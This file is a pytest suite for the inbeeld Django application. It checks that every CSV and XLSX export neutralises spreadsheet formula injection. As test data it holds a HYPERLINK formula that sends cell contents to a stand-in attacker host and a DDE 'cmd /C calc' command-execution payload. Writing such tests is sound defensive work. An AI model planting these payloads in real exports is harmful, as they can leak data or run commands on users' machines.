"""CSV (formula) injection, issue 11 item 11: a text cell starting with =, +, -, @ (or a tab or
carriage return) reaches no CSV export of the product un-neutralised.

Every CSV the product writes is tried with a formula planted in a text field that reaches it:
the microdata CSV (a police unit's code), the CTDC file (its writer), the monitor tables (a unit's
name, also in the XLSX, where openpyxl would otherwise store a formula) and the evaluation CSV of
`inbeeld evaluate` (a unit's code). Before the fix each of these cells arrived as the bare formula.
"""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from inbeeld.accounts.models import Role
from inbeeld.reference.models import PoliceUnit
from inbeeld.spreadsheet_safety import neutralise_cell, neutralise_frame, neutralise_rows
from tests.conftest import verified_login
from tests.factories import CaseFactory, command_researcher, make_user
from tests.jobs.helpers import fetch_via_job

FORMULA = '=HYPERLINK("http://aanvaller.invalid/?"&A1,"klik")'
# A unit code holds at most 40 characters (PostgreSQL enforces it; SQLite does not).
CODE_FORMULA = '=HYPERLINK("a.invalid/"&A1,"k")'
CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str, delimiter: str = ";") -> list[str]:
    """Our CSVs are for Excel-NL (semicolons, a byte-order mark); CTDC keeps its commas."""
    text = text.removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _assert_no_formula(cells) -> None:
    bad = [c for c in cells if isinstance(c, str) and c.startswith(DANGEROUS)]
    bad = [c for c in bad if neutralise_cell(c) != c]  # plain numbers such as -5 are fine
    assert not bad, bad[:5]


# --- the rule ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234 5678 =x", "'+31 6 1234 5678 =x"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("-5", "-5"),  # a negative number as text stays a number
        ("+3", "+3"),
        ("-1,5", "-1,5"),
        ("-2.5e3", "-2.5e3"),
        ("Eenheid Amsterdam", "Eenheid Amsterdam"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_cells_that_start_a_formula_are_neutralised(value, expected):
    assert neutralise_cell(value) == expected


def test_numbers_stay_numbers():
    assert neutralise_rows([[-5, -0.5, 3, None, "-x"]]) == [[-5, -0.5, 3, None, "'-x"]]
    frame = neutralise_frame(pl.DataFrame({"n": [-5, 2], "t": ["-5", "=1"]}))
    assert frame.schema["n"] == pl.Int64 and frame.get_column("n").to_list() == [-5, 2]
    assert frame.get_column("t").to_list() == ["-5", "'=1"]


# --- every CSV export ---------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)  # the worker makes the file (tests/jobs/helpers.py)
def test_the_microdata_csv_neutralises_a_planted_unit_code_and_name(client):
    from inbeeld.publication import agreement
    from inbeeld.publication.services import data_use_agreement_accept, microdata_policy_set

    # The files show the unit's name (its Dutch label), the .sav its code: plant both.
    PoliceUnit.objects.filter(code="amsterdam").update(code=CODE_FORMULA, name=FORMULA)
    planted = PoliceUnit.objects.get(code=CODE_FORMULA)
    for _ in range(5):  # five alike: the unit survives k = 5 as it is
        CaseFactory(police_unit=planted)
    microdata_policy_set(actor=make_user(Role.ADMINISTRATOR), k=5, l_diversity=1)
    researcher = make_user(Role.RESEARCHER)
    data_use_agreement_accept(actor=researcher, version=agreement.VERSION)
    verified_login(client, researcher)
    response = fetch_via_job(client, reverse("reports:microdata", args=["csv"]))
    assert response.status_code == 200
    cells = _cells(response.content.decode("utf-8"))
    assert "'" + FORMULA in cells  # the unit arrives, as text
    _assert_no_formula(cells)
    # The XLSX download stores it as text, never as a formula.
    response = fetch_via_job(client, reverse("reports:microdata", args=["xlsx"]))
    book = load_workbook(io.BytesIO(response.content))
    types = {cell.data_type for row in book["Microdata"].iter_rows() for cell in row}
    assert "f" not in types
    values = [c.value for row in book["Microdata"].iter_rows() for c in row]
    assert "'" + FORMULA in values


def test_the_ctdc_writer_neutralises_text_cells():
    from inbeeld.publication.ctdc import write_ctdc

    frame = pl.DataFrame({"yearRegister": ["2020", CMD], "gender": ["-x", None], "n": [-1, 2]})
    buffer = io.BytesIO()
    write_ctdc(frame, buffer)
    cells = _cells(buffer.getvalue().decode("utf-8"), ",")
    assert "'" + CMD in cells and "'-x" in cells and "-1" in cells
    _assert_no_formula(cells)


@pytest.mark.django_db
def test_the_monitor_tables_neutralise_a_planted_unit_name(client):
    from inbeeld.demo.generator import generate
    from inbeeld.demo.generator.data import DemoConfig

    generate(DemoConfig(cases=400, seed=5))
    PoliceUnit.objects.filter(code="amsterdam").update(name=FORMULA)
    verified_login(client, make_user(Role.RESEARCHER))
    response = client.get(reverse("reports:monitor_tables", args=["csv"]))
    assert response.status_code == 200
    cells = _cells(response.content.decode("utf-8"))
    assert "'" + FORMULA in cells
    _assert_no_formula(cells)
    response = client.get(reverse("reports:monitor_tables", args=["xlsx"]))
    book = load_workbook(io.BytesIO(response.content))
    types = {cell.data_type for row in book["Monitor"].iter_rows() for cell in row}
    assert "f" not in types


@pytest.mark.django_db
def test_the_evaluation_csv_neutralises_a_planted_unit_code(tmp_path):
    from inbeeld.demo.generator import generate
    from inbeeld.demo.generator.data import DemoConfig

    generate(DemoConfig(cases=400, seed=5))
    PoliceUnit.objects.filter(code="amsterdam").update(code=CMD)
    path = tmp_path / "evaluatie.csv"
    call_command("evaluate", format="csv", user=command_researcher().username, output=str(path))
    cells = _cells(path.read_text(encoding="utf-8"))
    assert "'" + CMD in cells  # the bottleneck row of the planted unit
    _assert_no_formula(cells)
    # Numbers (negative differences included) stay numbers in the file.
    assert any(c.startswith("-") and neutralise_cell(c) == c for c in cells)
